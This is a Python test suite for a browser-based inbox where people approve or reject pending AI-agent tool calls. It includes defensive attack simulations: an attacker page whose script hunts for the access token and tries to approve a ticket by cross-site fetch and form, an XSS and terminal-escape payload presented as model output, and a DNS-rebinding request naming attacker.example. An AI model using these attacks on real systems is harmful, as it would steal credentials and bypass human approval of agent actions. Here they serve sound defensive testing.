"""The approval inbox in a real browser: headless Chromium from the system's packages,
driven by Playwright (its own browser download is never used)."""

from __future__ import annotations

import functools
import http.server
import os
import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest

pytest.importorskip("starlette")
pytest.importorskip("uvicorn")

from anyio.from_thread import start_blocking_portal

from dsh_tools._json import snapshot
from dsh_tools._models import ApprovalOutcome
from dsh_tools.approvals import (
    ApprovalKey,
    ApprovalTicket,
    MemoryApprovalStore,
    TicketAnswer,
    TicketState,
)
from dsh_tools.cli._inbox import InboxSecrets, serve_inbox
from dsh_tools.presentation import DiffCallView, TerminalCallView, file_diffs, unstructure_view

CHROMIUM = "/usr/lib/chromium/chromium"
ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]


def _unavailable(reason: str) -> None:
    """Under CI the browser tests must run: a missing browser fails them there."""
    if os.environ.get("CI"):
        pytest.fail(f"the inbox's browser tests cannot run under CI: {reason}")
    pytest.skip(reason)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        _unavailable("playwright is not installed (it is in the test extra)")
    if not os.path.exists(CHROMIUM):
        _unavailable(f"no Chromium at {CHROMIUM} (Debian's chromium package)")
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield launched
        launched.close()


def _ticket(store: MemoryApprovalStore, command: str, **card: Any) -> str:
    """Open a pending ticket for a ``run_command`` call; returns its id."""
    arguments = snapshot({"command": command})
    view = TerminalCallView(command, sandboxed=True, network=False)
    ticket = ApprovalTicket.new(
        ApprovalKey.for_call("agent-1", "run_command", arguments),
        f"call-{len(store.list_tickets())}",
        arguments,
        created_at=time.time(),
        expires_at=time.time() + 600,
        card=snapshot(card or unstructure_view(view)),
        asked_by=snapshot(
            {"plugin": "default_permissions", "rule": "ask", "file": "rules.toml", "line": 4}
        ),
    )
    return store.open_ticket(ticket).id


def _answers(store: MemoryApprovalStore) -> list[TicketAnswer]:
    return [t.answer for t in store.list_tickets() if t.answer is not None]


@pytest.fixture
def inbox() -> Iterator[tuple[MemoryApprovalStore, str]]:
    """A running inbox over a few pending tickets; yields them and the URL to open."""
    store = MemoryApprovalStore()
    diff = DiffCallView("Write notes.txt", file_diffs("notes.txt", "old line\n", "new line\n"))
    _ticket(store, "write notes.txt", **unstructure_view(diff))
    _ticket(store, "echo hello > w2.txt")
    with start_blocking_portal() as portal:
        future, url = portal.start_task(functools.partial(serve_inbox, store, port=0))
        try:
            yield store, url
        finally:
            future.cancel()


def test_a_person_approves_a_pending_call_in_the_browser(browser: Any, inbox: Any) -> None:
    tickets, url = inbox
    page = browser.new_page()
    page.goto(url)
    card = page.locator("article", has_text="echo hello > w2.txt")
    assert "sandboxed, network off" in card.inner_text()
    assert "rules.toml:4" in card.inner_text()
    assert "+new line" in page.locator("article", has_text="notes.txt").inner_text()
    assert "token" not in page.url  # the token left the address

    ticket_id = card.get_attribute("data-ticket")
    card.get_by_role("button", name="Approve once").click()
    page.wait_for_selector(f"text=Ticket {ticket_id}: allowed-once.")
    assert page.locator("article", has_text="echo hello").count() == 0
    answered = tickets.get_ticket(ticket_id)
    assert answered.state is TicketState.ANSWERED
    assert answered.answer.outcome is ApprovalOutcome.ALLOWED_ONCE
    assert (answered.answer.channel, answered.answer.feedback) == ("inbox", None)
    assert answered.answer.by.startswith("web")


def test_the_page_follows_tickets_as_they_arrive_and_are_answered(browser: Any, inbox: Any) -> None:
    tickets, url = inbox
    page = browser.new_page()
    page.goto(url)
    page.locator("article", has_text="notes.txt").locator("input[name=feedback]").fill("typing")
    _ticket(tickets, "make deploy")
    echo = next(t for t in tickets.list_tickets() if t.arguments["command"].startswith("echo"))
    tickets.answer_ticket(echo.id, TicketAnswer("rejected", "alice", "cli"))  # elsewhere
    page.wait_for_selector("article:has-text('make deploy')", timeout=10_000)
    page.wait_for_selector("article:has-text('echo hello')", state="detached", timeout=10_000)
    assert page.title() == "(2) approvals"
    typed = page.locator("article", has_text="notes.txt").locator("input[name=feedback]")
    assert typed.input_value() == "typing"  # a card already shown is left alone


def test_a_rejection_carries_the_persons_feedback(browser: Any, inbox: Any) -> None:
    tickets, url = inbox
    page = browser.new_page()
    page.goto(url)
    card = page.locator("article", has_text="notes.txt")
    card.locator("input[name=feedback]").fill("write it to docs/ instead")
    card.get_by_role("button", name="Reject").click()
    page.wait_for_selector("text=: rejected.")
    [answer] = _answers(tickets)
    assert (answer.outcome, answer.feedback) == (
        ApprovalOutcome.REJECTED,
        "write it to docs/ instead",
    )


def test_an_always_approval_may_end(browser: Any, inbox: Any) -> None:
    tickets, url = inbox
    page = browser.new_page()
    page.goto(url)
    card = page.locator("article", has_text="echo hello")
    card.locator("select[name=lasts]").select_option(label="for 1 hour")
    card.get_by_role("button", name="Approve always").click()
    page.wait_for_selector("text=: allowed-always.")
    [answer] = _answers(tickets)
    assert (answer.outcome, answer.expires_in_s, answer.uses) == (
        ApprovalOutcome.ALLOWED_ALWAYS,
        3600.0,
        None,
    )
    card = page.locator("article", has_text="notes.txt")
    second = card.get_attribute("data-ticket")
    card.locator("select[name=lasts]").select_option(label="for 10 more calls")
    card.get_by_role("button", name="Approve always").click()
    # The first answer's notice is still on the page: wait for this ticket's own.
    page.wait_for_selector(f"text=Ticket {second}: allowed-always.")
    assert {(a.expires_in_s, a.uses) for a in _answers(tickets)} == {(3600.0, None), (None, 10)}


def test_without_the_token_the_inbox_answers_401(browser: Any, inbox: Any) -> None:
    tickets, url = inbox
    base = url.split("#")[0]
    page = browser.new_page()
    page.goto(base)
    page.wait_for_selector("text=a token is required")
    page.goto(base + "#token=wrong")
    page.wait_for_selector("text=a token is required")
    assert "echo hello" not in page.content()
    assert page.request.get(base + "tickets").status == 401
    assert page.request.get(base + "?token=" + url.split("=")[1]).ok  # the page only
    assert page.request.get(base + "tickets?token=" + url.split("=")[1]).status == 401
    some = tickets.list_tickets()[0].id
    posted = page.request.post(
        base + f"tickets/{some}", form={"outcome": "allowed-once"}, headers={"Origin": base[:-1]}
    )
    assert posted.status == 401
    assert _answers(tickets) == []


class _Attacker(http.server.ThreadingHTTPServer):
    """Another origin on this machine (same site, other port): what its server receives
    and what its page's script could find or do."""

    heard: list[str]
    found: list[str]


def _attacker_site(inbox: str, ticket: str) -> _Attacker:
    """A page on another port that looks for the inbox's token everywhere its script can
    reach (cookies, storage, the inbox's responses) and tries to approve ``ticket`` with a
    form and with ``fetch``; its server records every header it receives."""
    script = f"""
    const found = [document.cookie, JSON.stringify(sessionStorage), JSON.stringify(localStorage)];
    const target = {inbox!r} + "tickets/{ticket}";
    async function attempt(how) {{
      try {{ const r = await how(); found.push(r.status + ":" + await r.text()); }}
      catch (error) {{ found.push("blocked:" + error); }}
    }}
    (async () => {{
      await attempt(() => fetch({inbox!r} + "tickets", {{credentials: "include"}}));
      await attempt(() => fetch(target, {{method: "POST", credentials: "include",
        body: new URLSearchParams({{outcome: "allowed-always"}})}}));
      await attempt(() => fetch(target, {{method: "POST", mode: "no-cors",
        credentials: "include", body: new URLSearchParams({{outcome: "allowed-always"}})}}));
      await fetch("/found", {{method: "POST", body: JSON.stringify(found)}});
      document.getElementById("f").submit();
    }})();
    """
    body = (
        f'<form id="f" method="post" action="{inbox}tickets/{ticket}">'
        '<input name="outcome" value="allowed-always"></form>'
        f"<script>{script}</script>"
    ).encode()

    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            server.heard.append(str(self.headers))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            server.heard.append(str(self.headers))
            length = int(self.headers.get("Content-Length", "0"))
            server.found.append(self.rfile.read(length).decode())
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = _Attacker(("127.0.0.1", 0), Page)
    server.heard, server.found = [], []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def test_a_page_on_another_port_cannot_read_the_token_nor_approve(browser: Any, inbox: Any) -> None:
    """The person opened the inbox, then (same browser) a page of a dev server an agent
    started on another port: that page and its server never see the token, and none of
    its requests answers a ticket."""
    tickets, url = inbox
    token = url.split("#token=")[1]
    base = url.split("#")[0]
    context = browser.new_context()
    page = context.new_page()
    page.goto(url)
    target = page.locator("article", has_text="echo hello").get_attribute("data-ticket")
    attacker = _attacker_site(base, target)
    other = context.new_page()
    try:
        other.goto(f"http://127.0.0.1:{attacker.server_address[1]}/")
        other.wait_for_url(f"{base}tickets/{target}")  # the form went last
        assert "a token is required" in other.content()
        assert attacker.found, "the attacker's page reported what it found"
    finally:
        attacker.shutdown()
        attacker.server_close()
    assert token not in "".join(attacker.heard + attacker.found)
    assert [c for c in context.cookies() if token in c["value"]] == []
    assert _answers(tickets) == []
    page.reload()  # the inbox's own page still holds it, after a reload too
    assert page.locator("article", has_text="echo hello").count() == 1


def _post(url: str, ticket: str, **headers: str) -> int:
    """A plain HTTP client's answer to ``ticket`` with the right token and ``headers``."""
    import urllib.error
    import urllib.request

    base, token = url.split("#token=")
    request = urllib.request.Request(
        base + f"tickets/{ticket}",
        data=b"outcome=allowed-once&lasts=",
        headers={"Authorization": f"Bearer {token}", **headers},
        method="POST",
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return int(response.status)
    except urllib.error.HTTPError as error:
        return error.code


def test_a_post_must_prove_it_comes_from_the_inbox_page(inbox: Any) -> None:
    """Even with the token, a POST with neither ``Origin`` nor ``Sec-Fetch-Site``, or
    naming another origin or site, answers nothing."""
    tickets, url = inbox
    own = url.split("/#")[0]
    other = own.rsplit(":", 1)[0] + ":1"
    some = tickets.list_tickets()[0].id
    assert _post(url, some) == 403
    assert _post(url, some, Origin=other) == 403
    assert _post(url, some, Origin="null") == 403
    assert _post(url, some, **{"Sec-Fetch-Site": "same-site"}) == 403
    assert _post(url, some, Origin=own, **{"Sec-Fetch-Site": "same-site"}) == 403
    assert _answers(tickets) == []
    assert _post(url, some, Origin=own) == 200
    assert [a.outcome for a in _answers(tickets)] == [ApprovalOutcome.ALLOWED_ONCE]


def test_text_from_the_model_is_shown_inert(browser: Any) -> None:
    hostile = "echo <img src=x onerror=alert(1)>\x1b]0;owned\x07\u202eexe.txt"
    store = MemoryApprovalStore()
    _ticket(store, hostile)
    with start_blocking_portal() as portal:
        serve = functools.partial(serve_inbox, store, port=0, secrets_=InboxSecrets("tok-en"))
        future, url = portal.start_task(serve)
        try:
            page = browser.new_page()
            dialogs: list[str] = []
            page.on("dialog", lambda dialog: dialogs.append(dialog.message))
            page.goto(url)
            shown = page.locator("article").inner_text()
        finally:
            future.cancel()
    assert "<img src=x onerror=alert(1)>\\x1b]0;owned\\x07\\u202eexe.txt" in shown
    assert page.locator("article img").count() == 0
    assert dialogs == []


def test_the_inbox_approves_a_pending_call_end_to_end(browser: Any) -> None:
    """A call asks; nobody can answer now, so it ends APPROVAL_PENDING with a ticket; a
    person approves it in the inbox; resuming the ticket runs the body exactly once."""
    from approval_helpers import add_write_tool
    from dsh_tools import ToolRegistry
    from dsh_tools._models import Ask, ToolExecution, ToolExecutionInput
    from dsh_tools.errors import ErrorCode
    from dsh_tools.hookspecs import hookimpl

    store = MemoryApprovalStore()
    registry = ToolRegistry(approval=lambda request: "pending", approval_store=store)
    runs = add_write_tool(registry)

    class AskFirst:
        @hookimpl
        def dsh_tools_pre_execute(self, execution: ToolExecution) -> Ask:
            return Ask("deploys to production")

    registry.add_plugin(AskFirst())
    agent = registry.scope("agent-1")
    call = ToolExecutionInput("call-1", "write", {"path": "billing.txt"})

    async def resume(ticket: str) -> Any:
        return await agent.resume(ticket)

    # Playwright's sync API keeps an event loop in this thread: the calls run on the
    # portal's, as a host's would.
    with start_blocking_portal() as portal:
        pending = portal.call(agent.execute, call)
        assert pending.code == ErrorCode.APPROVAL_PENDING
        ticket_id = pending.meta["approval"]["ticket"]
        future, url = portal.start_task(functools.partial(serve_inbox, store, port=0))
        try:
            page = browser.new_page()
            page.goto(url)
            card = page.locator(f"article[data-ticket='{ticket_id}']")
            assert "deploys to production" in card.inner_text()
            card.get_by_role("button", name="Approve once").click()
            page.wait_for_selector(f"text=Ticket {ticket_id}: allowed-once.")
        finally:
            future.cancel()
        assert runs == []
        resumed = portal.call(resume, ticket_id)
        assert not resumed.is_error
        assert runs == ["billing.txt"]
        again = portal.call(resume, ticket_id)
    assert again.is_error  # already resumed: the body does not run twice
    assert runs == ["billing.txt"]


def test_every_argument_of_a_call_without_a_card_is_shown(browser: Any) -> None:
    from approval_helpers import (
        HIDING,
        add_deploy_tool,
        ask_every_call,
        assert_every_argument_shown,
    )
    from dsh_tools import ToolRegistry
    from dsh_tools._models import ToolExecutionInput

    store = MemoryApprovalStore()
    registry = ToolRegistry(approval=lambda request: "pending", approval_store=store)
    add_deploy_tool(registry)
    ask_every_call(registry)
    with start_blocking_portal() as portal:
        pending = portal.call(
            registry.execute, ToolExecutionInput("c1", "deploy", HIDING, agent="coder")
        )
        ticket = pending.meta["approval"]["ticket"]
        future, url = portal.start_task(functools.partial(serve_inbox, store, port=0))
        try:
            page = browser.new_page()
            page.goto(url)
            shown = page.locator(f"article[data-ticket='{ticket}'] pre").inner_text()
        finally:
            future.cancel()
    assert_every_argument_shown(shown)


def test_a_store_that_fails_is_reported_and_nothing_is_answered(browser: Any) -> None:
    class Broken(MemoryApprovalStore):
        def list_tickets(self, **filters: Any) -> Any:
            raise OSError("disk is gone")

    with start_blocking_portal() as portal:
        future, url = portal.start_task(functools.partial(serve_inbox, Broken(), port=0))
        try:
            page = browser.new_page()
            page.goto(url)
            page.wait_for_selector("text=disk is gone")
            assert "nothing was answered" in page.locator("#notice").inner_text()
        finally:
            future.cancel()


def test_a_page_elsewhere_cannot_reach_the_inbox_by_dns_rebinding() -> None:
    """On loopback only a loopback Host header is served, even with the right token."""
    import http.client
    from urllib.parse import urlsplit

    with start_blocking_portal() as portal:
        serve = functools.partial(serve_inbox, MemoryApprovalStore(), port=0)
        future, url = portal.start_task(serve)
        try:
            parts = urlsplit(url)
            statuses = []
            for host in (f"attacker.example:{parts.port}", parts.netloc):
                connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=10)
                connection.putrequest("GET", "/tickets", skip_host=True)
                connection.putheader("Host", host)
                connection.putheader("Authorization", f"Bearer {parts.fragment[6:]}")
                connection.endheaders()
                statuses.append(connection.getresponse().status)
                connection.close()
        finally:
            future.cancel()
    assert statuses == [421, 200]
